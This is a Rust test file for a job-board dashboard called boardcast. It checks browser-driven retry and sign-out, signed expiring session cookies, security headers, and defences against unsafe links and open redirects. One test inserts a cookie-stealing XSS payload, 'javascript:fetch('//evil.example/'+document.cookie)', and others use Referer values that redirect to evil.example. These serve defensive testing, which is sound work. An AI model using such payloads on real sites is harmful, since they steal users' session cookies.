//! The dashboard in a real browser (headless Chromium through chromedriver):
//! a failed posting is shown with the board's reason, Retry sends it again,
//! the job's page shows it posted, and signing out ends the session.
//! Screenshots are kept in `target/tmp/dashboard-*.png`. Sessions, headers
//! and links are checked over plain HTTP below.

use std::net::TcpListener;
use std::process::Stdio;
use std::time::Duration;

use base64::Engine;
use boardcast::ops::dashboard::COOKIE;
use boardcast::ops::session::{Session, SessionKey};
use boardcast::sandbox::Faults;
use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::json;
use tokio::process::{Child, Command};

use crate::WTTJ;
use crate::helpers::{OPS_TOKEN, TestApp, spawn_app, spawn_app_with};

/// Starts chromedriver on a free port and waits until it listens.
async fn chromedriver() -> (Child, u16) {
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let child = Command::new("chromedriver")
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .expect("chromedriver is installed (deploy/dev/test.sh installs Debian's chromium-driver)");
    for _ in 0..200 {
        if tokio::net::TcpStream::connect(("127.0.0.1", port))
            .await
            .is_ok()
        {
            return (child, port);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("chromedriver did not start listening");
}

/// A headless Chromium session, and the chromedriver behind it (stops when dropped).
pub async fn browser() -> (Child, Client) {
    let (driver, port) = chromedriver().await;
    let profile = tempdir();
    let mut capabilities = serde_json::Map::new();
    capabilities.insert(
        "goog:chromeOptions".to_owned(),
        json!({
            "binary": "/usr/bin/chromium",
            "args": ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                     "--disable-background-networking", "--disable-component-update", "--disable-sync",
                     "--no-first-run", "--window-size=1400,900", format!("--user-data-dir={profile}")]
        }),
    );
    let browser = ClientBuilder::new(HttpConnector::new())
        .capabilities(capabilities)
        .connect(&format!("http://127.0.0.1:{port}"))
        .await
        .expect("a Chromium session");
    (driver, browser)
}

/// Opens the console unsigned, is sent to sign in, and signs in with the token.
pub async fn sign_in_browser(browser: &Client, ops_url: &str) {
    browser.goto(&format!("{ops_url}/")).await.unwrap();
    assert!(
        browser
            .current_url()
            .await
            .unwrap()
            .path()
            .ends_with("/login")
    );
    browser
        .find(Locator::Id("token"))
        .await
        .unwrap()
        .send_keys(OPS_TOKEN)
        .await
        .unwrap();
    browser
        .find(Locator::Id("sign-in"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
}

pub fn save(name: &str, png: &[u8]) {
    let path = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join(name);
    std::fs::write(&path, png).unwrap();
    eprintln!("screenshot: {}", path.display());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_shows_a_failure_and_its_retry_button_works() {
    let app = spawn_app().await;
    app.faults(
        WTTJ,
        Faults {
            fail_times: 1_000,
            fail_status: 422,
            ..Faults::default()
        },
    );
    app.publish_sample("sales-account-executive.publish.json")
        .await;
    let rows = app.settled(6).await;
    let failed = rows
        .iter()
        .find(|r| r.status == "failed")
        .expect("one posting failed");

    let (_driver, browser) = browser().await;
    // Unsigned visitors are sent to sign in.
    sign_in_browser(&browser, &app.ops_url).await;

    // The click returns before the redirect has loaded the overview: wait for it.
    let row = browser
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Id(&format!("posting-{}", failed.id)))
        .await
        .unwrap();
    let text = row.text().await.unwrap();
    assert!(
        text.contains("failed") && text.contains("told to fail"),
        "{text}"
    );
    // The boards' health table, rescues included.
    let boards = browser
        .find(Locator::Id(&format!("board-{WTTJ}")))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(boards.starts_with(WTTJ), "{boards}");
    save("dashboard-failed.png", &browser.screenshot().await.unwrap());

    app.faults(WTTJ, Faults::default());
    browser
        .find(Locator::Id(&format!("retry-{}", failed.id)))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    app.wait_for("the retried posting to be posted", || async {
        let rows = app.postings().await;
        rows.into_iter()
            .find(|r| r.id == failed.id && r.status == "posted")
    })
    .await;

    browser
        .goto(&format!("{}/jobs/northwind/SAE-77", app.ops_url))
        .await
        .unwrap();
    let row = browser
        .find(Locator::Id(&format!("posting-{}", failed.id)))
        .await
        .unwrap();
    let text = row.text().await.unwrap();
    assert!(text.contains("posted"), "{text}");
    save("dashboard-job.png", &browser.screenshot().await.unwrap());

    // Signing out ends the session: the dashboard asks to sign in again.
    browser
        .find(Locator::Id("sign-out"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    browser
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Id("sign-in"))
        .await
        .unwrap();
    browser.goto(&format!("{}/", app.ops_url)).await.unwrap();
    assert!(
        browser
            .current_url()
            .await
            .unwrap()
            .path()
            .ends_with("/login")
    );
    browser.close().await.unwrap();

    let actor: String =
        sqlx::query_scalar("SELECT actor FROM operator_actions WHERE action = 'retry'")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    assert_eq!(actor, "test-operator");
    app.stop().await;
}

fn tempdir() -> String {
    let dir = std::env::temp_dir().join(format!(
        "boardcast-chromium-{}",
        uuid::Uuid::new_v4().simple()
    ));
    std::fs::create_dir_all(&dir).unwrap();
    dir.to_string_lossy().into_owned()
}

// ---------------------------------------------------------------------------
// Sessions, headers and links, over plain HTTP.

/// 32 bytes or more, as `ops.session_key` requires.
const SESSION_KEY: &str = "a-test-session-key-of-32-bytes-or-more";

/// A client that shows redirects instead of following them.
fn no_redirects() -> reqwest::Client {
    reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap()
}

fn location(response: &reqwest::Response) -> &str {
    response.headers()[reqwest::header::LOCATION]
        .to_str()
        .unwrap()
}

/// The overview with this cookie: `Ok(body)` when signed in, `Err(location)` when sent away.
async fn overview_with(app: &TestApp, cookie: &str) -> Result<String, String> {
    let response = no_redirects()
        .get(format!("{}/", app.ops_url))
        .header(reqwest::header::COOKIE, cookie)
        .send()
        .await
        .unwrap();
    if response.status().is_redirection() {
        return Err(location(&response).to_owned());
    }
    assert_eq!(response.status(), 200);
    Ok(response.text().await.unwrap())
}

async fn sign_in(app: &TestApp, forwarded_proto: Option<&str>) -> String {
    let mut request = no_redirects()
        .post(format!("{}/login", app.ops_url))
        .form(&[("token", OPS_TOKEN)]);
    if let Some(proto) = forwarded_proto {
        request = request.header("x-forwarded-proto", proto);
    }
    let response = request.send().await.unwrap();
    assert!(response.status().is_redirection(), "{}", response.status());
    assert_eq!(location(&response), "/");
    response.headers()[reqwest::header::SET_COOKIE]
        .to_str()
        .unwrap()
        .to_owned()
}

/// The cookie used to hold the raw API token, without `Secure`, expiry or
/// logout: it now holds a signed session that expires, ends at logout, and
/// is `Secure` when the dashboard is reached over https.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_dashboard_session_is_signed_expiring_and_ends_at_logout() {
    let app = spawn_app_with(|settings| {
        settings.ops.session_key = Some(SESSION_KEY.into());
        settings.ops.session_minutes = 30;
    })
    .await;
    let set_cookie = sign_in(&app, None).await;
    assert!(!set_cookie.contains(OPS_TOKEN), "{set_cookie}");
    for attribute in ["HttpOnly", "SameSite=Strict", "Path=/", "Max-Age=1800"] {
        assert!(set_cookie.contains(attribute), "{attribute}: {set_cookie}");
    }
    assert!(!set_cookie.contains("Secure"), "plain http: {set_cookie}");
    let cookie = set_cookie.split(';').next().unwrap().to_owned();
    let page = overview_with(&app, &cookie).await.expect("signed in");
    assert!(
        page.contains("Postings") && page.contains("sign-out"),
        "{page}"
    );

    // The raw token is not a session, nor is a forged or expired one.
    assert_eq!(
        overview_with(&app, &format!("{COOKIE}={OPS_TOKEN}")).await,
        Err("/login".to_owned())
    );
    let key = SessionKey::from_settings(&app.settings.ops);
    let session = |minutes: i64| Session {
        id: uuid::Uuid::new_v4(),
        operator: "test-operator".to_owned(),
        expires_at: time::OffsetDateTime::now_utc() + time::Duration::minutes(minutes),
    };
    let expired = format!("{COOKIE}={}", key.sign(&session(-1)));
    assert_eq!(
        overview_with(&app, &expired).await,
        Err("/login".to_owned())
    );
    let live = format!("{COOKIE}={}", key.sign(&session(5)));
    assert!(overview_with(&app, &live).await.is_ok());
    let forged = format!("{COOKIE}={}x", key.sign(&session(5)));
    assert_eq!(overview_with(&app, &forged).await, Err("/login".to_owned()));

    // Logout ends the session on the server, not only in this browser.
    let response = no_redirects()
        .post(format!("{}/logout", app.ops_url))
        .header(reqwest::header::COOKIE, &cookie)
        .send()
        .await
        .unwrap();
    assert_eq!(location(&response), "/login");
    let cleared = response.headers()[reqwest::header::SET_COOKIE]
        .to_str()
        .unwrap();
    assert!(cleared.starts_with(&format!("{COOKIE}=;")) && cleared.contains("Max-Age=0"));
    assert_eq!(overview_with(&app, &cookie).await, Err("/login".to_owned()));
    assert!(
        overview_with(&app, &live).await.is_ok(),
        "other sessions live on"
    );

    // Behind a TLS-terminating proxy the cookie travels over https only.
    let set_cookie = sign_in(&app, Some("https")).await;
    assert!(set_cookie.contains("; Secure"), "{set_cookie}");
    app.stop().await;
}

/// The dashboard had no CSP nor frame headers.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dashboard_pages_carry_a_content_security_policy_and_frame_headers() {
    let app = spawn_app().await;
    let response = reqwest::get(format!("{}/login", app.ops_url))
        .await
        .unwrap();
    let headers = response.headers().clone();
    let header = |name: &str| headers[name].to_str().unwrap().to_owned();
    assert_eq!(header("x-frame-options"), "DENY");
    assert_eq!(header("x-content-type-options"), "nosniff");
    assert_eq!(header("referrer-policy"), "same-origin");
    assert_eq!(header("cache-control"), "no-store");
    let policy = header("content-security-policy");
    for directive in [
        "default-src 'none'",
        "frame-ancestors 'none'",
        "form-action 'self'",
    ] {
        assert!(policy.contains(directive), "{directive}: {policy}");
    }
    // The page's own stylesheet is allowed by its digest, nothing else.
    let page = response.text().await.unwrap();
    let style = page
        .split_once("<style>")
        .and_then(|(_, rest)| rest.split_once("</style>"))
        .unwrap()
        .0;
    let digest = base64::engine::general_purpose::STANDARD
        .encode(<sha2::Sha256 as sha2::Digest>::digest(style.as_bytes()));
    assert!(
        policy.contains(&format!("style-src 'sha256-{digest}'")),
        "{policy}"
    );
    assert!(!page.contains("<script"), "{page}");
    app.stop().await;
}

/// A board's `javascript:` URL was rendered as a link on the ops origin.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_board_url_is_a_link_only_when_it_is_http() {
    let app = spawn_app().await;
    app.publish_sample("sales-account-executive.publish.json")
        .await;
    let rows = app.settled(6).await;
    let hostile = rows.iter().find(|r| r.board == WTTJ).unwrap();
    sqlx::query("UPDATE postings SET external_url = $1 WHERE id = $2")
        .bind("javascript:fetch('//evil.example/'+document.cookie)")
        .bind(hostile.id)
        .execute(&app.pool)
        .await
        .unwrap();
    let page = reqwest::Client::new()
        .get(format!("{}/jobs/northwind/SAE-77", app.ops_url))
        .bearer_auth(OPS_TOKEN)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = page
        .split(&format!("<tr id=\"posting-{}\">", hostile.id))
        .nth(1)
        .and_then(|rest| rest.split("</tr>").next())
        .unwrap();
    // The row's one link is to the posting's own console page.
    assert_eq!(row.matches("href").count(), 1, "{row}");
    assert!(
        row.contains(&format!("href=\"/postings/{}\"", hostile.id)),
        "{row}"
    );
    assert!(row.contains("javascript:fetch("), "shown as text: {row}");
    let https = rows
        .iter()
        .filter(|r| r.id != hostile.id)
        .find_map(|r| r.external_url.as_deref())
        .expect("a board gave an https URL");
    let link = format!("<a href=\"{}\"", https.replace('&', "&#38;"));
    assert!(page.contains(&link), "https links stay links: {page}");
    app.stop().await;
}

/// A button sent the operator back to the Referer's path, and a Referer of
/// `http://ops//evil.example/` made that `//evil.example/`: another host.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_button_sends_back_to_a_local_path_only() {
    let app = spawn_app().await;
    let back_from = |referer: String| {
        let request = no_redirects()
            .post(format!("{}/dashboard/postings/999/cancel", app.ops_url))
            .bearer_auth(OPS_TOKEN)
            .header(reqwest::header::REFERER, referer);
        async move {
            let response = request.send().await.unwrap();
            assert!(response.status().is_redirection(), "{}", response.status());
            location(&response).to_owned()
        }
    };
    let ops = &app.ops_url;
    assert_eq!(
        back_from(format!("{ops}/jobs/northwind/SAE-77")).await,
        "/jobs/northwind/SAE-77"
    );
    assert_eq!(back_from(format!("{ops}//evil.example/")).await, "/");
    assert_eq!(back_from(format!("{ops}/\\evil.example/")).await, "/");
    assert_eq!(
        back_from("https://evil.example//evil.example".to_owned()).await,
        "/"
    );
    app.stop().await;
}
